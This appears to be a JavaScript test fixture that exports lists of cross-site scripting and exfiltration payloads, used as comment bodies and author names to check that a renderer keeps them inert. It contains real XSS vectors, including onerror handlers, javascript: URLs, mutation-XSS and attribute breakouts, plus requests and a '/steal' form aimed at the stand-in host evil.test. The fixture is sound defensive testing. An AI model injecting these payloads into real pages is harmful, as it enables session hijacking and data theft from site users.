// Comment bodies (and names) full of XSS and exfiltration vectors. Every one either sets window.__pwned (a trap
// that records assignments), opens a dialog, or asks for something on http://evil.test (which the request
// recorder flags and loopback-only resolution never reaches). Rendered, all of them must stay inert.
'use strict';
const EVIL = 'http://evil.test';

const BODIES = [
  `<script>window.__pwned='script'</script>`,
  `<img src=x onerror="window.__pwned='img-onerror'">`,
  `<img src="${EVIL}/img.png" alt="remote">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  `<svg onload="window.__pwned='svg-onload'"><circle r="1"></circle></svg>`,
  `<svg><script>window.__pwned='svg-script'</script></svg>`,
  `<svg><a xlink:href="javascript:window.__pwned='svg-link'"><text x="20" y="20">svg link</text></a></svg>`,
  `<a href="javascript:window.__pwned='js-href'">javascript link</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">entity colon</a>`,
  `<a href=" &#14;javascript:alert(1)">control character</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/y.swf">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss-math'">`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
  `<form action="${EVIL}/steal"><input name="q" autofocus onfocus="window.__pwned='autofocus'"><button>Go</button></form>`,
  `<style>@import '${EVIL}/x.css'; body{background:url(${EVIL}/bg.png)}</style>`,
  `<p style="background:url(${EVIL}/inline-style.png)">styled paragraph</p>`,
  `<link rel="stylesheet" href="${EVIL}/l.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<base href="${EVIL}/">relative <a href="x">link</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<details open ontoggle="window.__pwned='ontoggle'">details</details>`,
  `<video><source onerror="window.__pwned='video-source'"></video><audio src="x" onerror="alert('audio')"></audio>`,
  `<b onmouseover="window.__pwned='mouseover'">hover over me</b>`,
  `<a href="https://ok.example/" onclick="window.__pwned='onclick'" style="position:fixed;inset:0">overlay link</a>`,
  `"><script>alert('attr-break')</script>`,
  `</textarea><script>alert('textarea-break')</script>`,
  `<!--<img src="--><img src=x onerror=alert('comment')//">`,
  `<scr<script>ipt>alert('nested')</scr</script>ipt>`,
  `<blockquote cite="javascript:alert(1)">quote</blockquote> <q cite="${EVIL}/q">short quote</q>`,
  `<abbr title="&quot;&gt;&lt;img src=x onerror=alert('abbr')&gt;">abbr</abbr>`,
  `<template><img src=x onerror="window.__pwned='template'"></template>`,
  `<svg><style><img src=x onerror="window.__pwned='svg-style'"></style></svg>`,
  `<table><td background="${EVIL}/td.png">cell</td></table>`,
  `{{constructor.constructor('window.__pwned="template-injection"')()}} \${window.__pwned='dollar'}`,
  `<a href="${EVIL}/ok" title="fine">a plain link to another site: shown, never fetched</a>`,
];

const NAMES = [
  `<img src=x onerror="window.__pwned='author'">`,
  `"><svg onload=alert('author2')>`,
];

module.exports = { EVIL, BODIES, NAMES };
